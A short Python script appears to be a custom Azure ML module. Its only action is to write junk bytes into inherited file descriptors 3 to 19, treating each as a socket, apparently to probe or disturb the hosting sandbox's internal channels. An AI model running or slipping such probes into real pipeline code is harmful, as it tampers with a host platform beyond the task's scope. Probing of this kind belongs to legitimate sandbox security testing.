import os,ctypes
def azureml_main():
    import struct
    for fd in range(3,20):
        try:
            import socket; s=socket.socket(fileno=fd); s.send(b"x"*100)
        except Exception as e: pass
    return 1

